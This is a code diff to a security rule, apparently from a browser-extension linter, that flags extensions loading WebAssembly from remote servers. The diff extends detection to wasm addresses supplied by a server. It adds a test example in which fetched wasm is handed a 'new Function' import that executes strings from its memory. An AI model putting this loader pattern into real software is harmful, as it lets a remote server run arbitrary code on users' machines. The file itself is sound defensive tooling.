@@ -1,7 +1,8 @@
-import { callsOf, pattern } from '../../facts/javascript/query.ts';
+import { callsOf } from '../../facts/javascript/query.ts';
 import { defineRule } from '../../rule.ts';
 import { backgroundExample, checkScripts } from './checkScripts.ts';
 import { isFromServer } from '../../extension/isFromServer.ts';
+import { serverDataOf } from '../../extension/serverData.ts';
 import { leadsOut } from './hostOf.ts';
 import { requestsOf } from './requestsOf.ts';
 import { backwardSlice } from '../../program/backwardSlice.ts';
@@ -19,6 +20,12 @@ export const remoteWasm = defineRule({
   remedy: 'Ship the .wasm file in the package and load it with runtime.getURL.',
   cap: { grade: 'D', reason: 'it runs code from another server' },
   check: checkScripts(function* ({ facts, script, hit }) {
+    // Not by the very answer, `input = fetch(input)`.
+    const isTold = (request: number, address: number): boolean =>
+      facts
+        .whole(serverDataOf)
+        .fresh(script, address)
+        .some(({ shown }) => shown !== request);
     for (const call of callsOf(
       script,
       'WebAssembly.instantiateStreaming',
@@ -30,11 +37,10 @@ export const remoteWasm = defineRule({
       const source = call.args[0] ?? 0;
       if (!isFromServer(facts, script, source)) continue;
       const origins = backwardSlice(script, source);
+      // Without a known host it is most often the package's own file by a name made at run time, unless a server names it.
       const to = requestsOf(script)
-        .filter((request) => origins.has(request.value))
-        .map((request) => pattern(script, request.address))
-        .find(leadsOut);
-      // Without a known host it is most often the package's own file by a name made at run time.
+        .filter(({ value }) => origins.has(value))
+        .find(({ value, to: address, address: asked }) => leadsOut(address) || isTold(value, asked))?.to;
       if (to !== undefined) yield hit(call.value, { evidence: to });
     }
   }),
@@ -43,6 +49,9 @@ export const remoteWasm = defineRule({
       backgroundExample('WebAssembly.instantiateStreaming(fetch("https://cdn.example.com/m.wasm"), {});'),
       backgroundExample(
         'const r = await fetch("https://cdn.example.com/m.wasm"); const bytes = await r.arrayBuffer(); const { instance } = await WebAssembly.instantiate(bytes);',
+      ),
+      backgroundExample(
+        'const { at } = await (await fetch("https://x.example/c.json")).json(); let own; const text = (from, to) => new TextDecoder().decode(new Uint8Array(own.memory.buffer).subarray(from, to)); const { instance } = await WebAssembly.instantiateStreaming(fetch(at), { e: { run: (from, to) => new Function(text(from, to))() } }); own = instance.exports; own.start();',
       ),
     ],
     good: [
